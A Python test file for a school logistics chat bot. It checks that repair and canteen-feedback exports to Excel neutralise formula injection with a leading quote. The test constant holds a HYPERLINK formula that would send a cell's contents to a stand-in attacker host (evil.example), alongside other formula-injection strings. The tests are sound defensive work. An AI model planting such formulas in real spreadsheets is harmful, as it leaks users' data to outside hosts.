"""Ledgers write what people typed as text, never as a formula: a repair described as a formula, a
canteen comment, anything a spreadsheet would read as `=`, `+`, `-`, `@`, tab or CR, comes out with
OWASP's leading single quote, in a cell typed as a string (filed through the webhook, exported with
`houqin export`, read back with openpyxl)."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.export import Sheet, write_workbook
from handlers.canteen import FEEDBACK_HEADER
from handlers.repair.ledger import LEDGER_HEADER

EVIL = '=HYPERLINK("http://evil.example/?d="&C2,"点击")'


@pytest.fixture
def school(people, clock):
    clock.set("2026-11-24 12:30")  # a Tuesday lunchtime
    people.add("周春明", "admin")
    people.add("程财宝", "staff", categories="水电;门窗;桌椅;电教;其他")
    people.add("张丽", "teacher", class_name="三(2)班")
    people.add("陈建国", "parent")
    return people


def cell_under(path: Path, sheet: str, header: list[str], column: str, row: int = 2):
    """The cell of `column` in the sheet's `row` counting the header as 1 (a title row stands above it)."""
    ws = load_workbook(path)[sheet]
    return ws.cell(row=row + 1, column=header.index(column) + 1)


def test_a_repair_described_as_a_formula_is_text_in_the_ledger(school, wechat_user, houqin, tmp_path: Path):
    teacher = wechat_user("张丽")
    assert "R1" in teacher.dialog([("报修", "地点"), ("三(2)班", "描述"), (EVIL, "R1")])[-1].text
    for text in ("+1+2 投影仪", "-3 桌子坏了", "@SUM(1,2) 窗户"):
        teacher.dialog([("报修", "地点"), ("四(1)班", "描述"), (text, "已提交")])
    out = tmp_path / "repairs.xlsx"

    assert houqin("export", "repairs", "--month", "2026-11", "--out", str(out)).exit_code == 0

    cell = cell_under(out, "报修台账", LEDGER_HEADER, "问题描述")
    assert cell.data_type != "f" and cell.data_type == "s"
    assert cell.value == "'" + EVIL
    others = [cell_under(out, "报修台账", LEDGER_HEADER, "问题描述", row) for row in (3, 4, 5)]
    assert [c.value for c in others] == ["'+1+2 投影仪", "'-3 桌子坏了", "'@SUM(1,2) 窗户"]
    assert all(c.data_type == "s" for c in others)
    assert cell_under(out, "报修台账", LEDGER_HEADER, "地点").value == "三(2)班"  # plain text stays as typed


def test_a_canteen_comment_as_a_formula_is_text_in_the_report(school, wechat_user, houqin, tmp_path: Path):
    assert "F1" in wechat_user("陈建国").say(f"食堂 2 {EVIL}").text
    out = tmp_path / "canteen.xlsx"

    assert houqin("export", "canteen", "--month", "2026-11", "--out", str(out)).exit_code == 0

    cell = cell_under(out, "评价明细", FEEDBACK_HEADER, "意见")
    assert cell.data_type == "s" and cell.value == "'" + EVIL


def test_every_formula_start_is_neutralised_and_numbers_and_dates_are_kept(tmp_path: Path):
    """Tab and CR cannot come through the webhook (messages are trimmed), so the writer is given them."""
    at = datetime(2026, 11, 24, 12, 30)
    path = write_workbook(tmp_path / "x.xlsx", [Sheet("表", ["内容", "数"], [
        ["=1+1", -5], ["+1", 2.5], ["-1", 0], ["@A1", None], ["\t=1+1", 3], ["\r=1+1", 4], ["正常", at]])])

    rows = list(load_workbook(path)["表"].iter_rows(min_row=2))

    # (XML reads a stored CR back as LF)
    assert [r[0].value for r in rows] == ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1+1", "'\n=1+1", "正常"]
    assert all(r[0].data_type == "s" for r in rows)
    assert [r[1].value for r in rows] == [-5, 2.5, 0, None, 3, 4, at]  # numbers stay numbers
    assert rows[-1][1].number_format == "yyyy-mm-dd hh:mm"
